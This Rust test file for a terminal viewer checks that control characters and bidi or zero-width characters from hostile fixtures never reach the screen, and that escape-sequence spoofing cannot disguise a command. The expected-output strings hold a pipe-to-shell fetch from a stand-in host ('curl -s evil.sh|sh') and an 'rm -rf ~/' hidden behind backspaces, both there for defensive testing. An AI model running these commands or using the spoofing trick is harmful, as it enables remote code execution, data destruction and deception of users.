//! Hostile input in the viewer (issue 9): the fixture of `hostile_output.rs` loaded into the
//! headless `App` and drawn on ratatui's `TestBackend`, every feed row selected in turn, plus the
//! catalog, problems and help views. No cell of the screen may hold a control character or an
//! invisible/reordering format character (bidi overrides, zero-width), since ratatui writes cell
//! symbols to the terminal verbatim.

use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::layout::Rect;
use rawpv::action::Action;
use rawpv::app::{App, Msg};
use rawpv::finding::is_invisible_format;
use rawpv::import;

const FIXTURE: &[u8] = include_bytes!("../fixtures/hostile_controls.ndjson");

fn draw(app: &mut App, term: &mut Terminal<TestBackend>, w: u16, h: u16) {
    app.prepare(Rect::new(0, 0, w, h));
    app.run_jobs_inline();
    term.draw(|f| app.draw(f))
        .unwrap_or_else(|e| panic!("draw: {e}"));
}

fn assert_screen_clean(term: &Terminal<TestBackend>, what: &str) {
    let buf = term.backend().buffer();
    for (i, cell) in buf.content().iter().enumerate() {
        for c in cell.symbol().chars() {
            assert!(
                !c.is_control() && !is_invisible_format(c),
                "{what}: U+{:04X} in cell {} (row {}): {:?}",
                c as u32,
                i,
                i / usize::from(buf.area.width),
                term.backend()
            );
        }
    }
}

#[test]
fn every_row_and_panel_draws_clean() {
    let (w, h) = (120, 40);
    let mut app = App::headless(import::load_bytes(FIXTURE).items, "hostile");
    let mut term = Terminal::new(TestBackend::new(w, h)).unwrap_or_else(|e| panic!("{e}"));
    draw(&mut app, &mut term, w, h);
    assert_screen_clean(&term, "first screen");
    for row in 0..40 {
        app.select(row);
        draw(&mut app, &mut term, w, h);
        assert_screen_clean(&term, &format!("row {row}"));
        app.update(Msg::Action(Action::ToggleSideBySide));
        app.update(Msg::Action(Action::ToggleWrap));
        draw(&mut app, &mut term, w, h);
        assert_screen_clean(&term, &format!("row {row}, toggled"));
    }
    for a in [
        Action::ShowCatalog,
        Action::ShowProblems,
        Action::ToggleHelp,
        Action::Cancel,
        Action::ToggleZoom,
    ] {
        app.update(Msg::Action(a));
        draw(&mut app, &mut term, w, h);
        assert_screen_clean(&term, &format!("after {a:?}"));
    }
}

#[test]
fn feed_rows_never_obey_cursor_motion() {
    // Issue 14.1: the feed listed `curl … | sh ESC[31m \r ESC[K ls -la` as `ls -la`.
    let items =
        import::load_bytes(include_bytes!("../fixtures/hostile_summary_spoof.ndjson")).items;
    let mut app = App::headless(items, "spoof");
    let (w, h) = (160, 20);
    let mut term = Terminal::new(TestBackend::new(w, h)).unwrap_or_else(|e| panic!("{e}"));
    draw(&mut app, &mut term, w, h);
    assert_screen_clean(&term, "spoof");
    let buf = term.backend().buffer();
    let rows: Vec<String> = (0..h)
        .map(|y| (0..w).map(|x| buf[(x, y)].symbol()).collect())
        .collect();
    let screen = rows.join("\n");
    assert!(
        screen.contains("curl -s evil.sh|sh \u{240d}\u{241b}[K"),
        "{screen}"
    );
    assert!(
        screen.contains(&format!("rm -rf ~/{}echo hi", "\u{2408}".repeat(9))),
        "{screen}"
    );
    assert!(
        screen.contains("tidy up \u{241b}[2K\u{240d}please list files"),
        "{screen}"
    );
}
